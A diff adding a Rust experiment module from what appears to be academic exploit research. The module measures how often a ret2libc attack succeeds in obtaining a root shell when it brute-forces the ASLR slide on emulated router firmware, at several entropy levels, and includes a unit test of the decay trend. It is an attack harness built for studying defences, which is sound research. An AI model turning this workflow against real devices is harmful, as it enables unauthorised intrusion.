@@ -1,0 +1,97 @@
+//! E8 — brute-forcing ASLR with ret2libc (extension; cf. related work
+//! §VI, where a D-Link PoC "bypasses W⊕X and ASLR … by brute-force").
+//!
+//! Without an information leak an attacker can only guess the libc
+//! slide. We sweep the ASLR entropy and measure the observed success
+//! rate of a fixed-guess ret2libc payload over many boots; the expected
+//! rate is 1/(2^bits − 1) (our loader never draws the zero slide).
+
+use cml_exploit::target::deliver_labels;
+use cml_exploit::{ExploitStrategy, Ret2Libc, TargetInfo};
+use cml_firmware::{Arch, Firmware, FirmwareKind, Protections};
+use cml_vm::AslrConfig;
+
+use crate::report::Table;
+
+/// Boots attacked per entropy setting.
+const TRIALS: u64 = 48;
+
+/// The slide the attacker bets on, in pages.
+const GUESSED_PAGES: u32 = 1;
+
+/// Runs the experiment.
+pub fn run() -> Table {
+    let mut t = Table::new(
+        "E8",
+        "ASLR brute force: ret2libc success rate vs. entropy (x86)",
+        &["entropy bits", "trials", "shells", "observed rate", "expected rate"],
+    );
+    let fw = Firmware::build(FirmwareKind::OpenElec, Arch::X86);
+    // Recon once on a no-ASLR replica for geometry and link addresses.
+    let fw2 = fw.clone();
+    let base_info = TargetInfo::gather(fw.image(), move || {
+        fw2.boot(Protections::wxorx(), 0xA11C)
+    })
+    .expect("vulnerable firmware");
+
+    for bits in [2u32, 3, 4, 6, 8] {
+        // The attacker's guess: every libc address shifted by the same
+        // candidate slide.
+        let mut guess = base_info.clone();
+        let slide = GUESSED_PAGES * 0x1000;
+        for addr in guess.libc.values_mut() {
+            *addr += slide;
+        }
+        guess.str_bin_sh += slide;
+        let payload = Ret2Libc::new().build(&guess).expect("payload builds");
+        let labels = payload.to_labels().expect("labelizes");
+
+        let protections = Protections {
+            aslr: AslrConfig::with_entropy(bits),
+            ..Protections::wxorx()
+        };
+        let mut shells = 0u64;
+        for seed in 0..TRIALS {
+            let mut victim = fw.boot(protections, 0x5EED_0000 + seed);
+            if let Some(out) = deliver_labels(&mut victim, labels.clone()) {
+                if out.is_root_shell() {
+                    shells += 1;
+                }
+            }
+        }
+        let expected = 1.0 / ((1u64 << bits) - 1) as f64;
+        t.row([
+            bits.to_string(),
+            TRIALS.to_string(),
+            shells.to_string(),
+            format!("{:.3}", shells as f64 / TRIALS as f64),
+            format!("{expected:.3}"),
+        ]);
+    }
+    t.note(format!(
+        "Each trial guesses a fixed {GUESSED_PAGES}-page libc slide; a shell \
+         appears only when the victim's boot drew exactly that slide. The \
+         observed rate tracks 1/(2^bits-1), shrinking geometrically — the \
+         reason the paper's ROP-over-fixed-sections approach matters: it \
+         needs no guessing at all.",
+    ));
+    t
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn success_rate_decays_with_entropy() {
+        let t = run();
+        let shells: Vec<u64> = t.rows.iter().map(|r| r[2].parse().unwrap()).collect();
+        // Low entropy hits sometimes; high entropy almost never.
+        assert!(shells[0] >= 1, "2 bits: expect some hits, got {shells:?}");
+        assert!(shells[4] <= 2, "8 bits: expect ~0 hits, got {shells:?}");
+        assert!(
+            shells.first() >= shells.last(),
+            "monotone-ish decay: {shells:?}"
+        );
+    }
+}
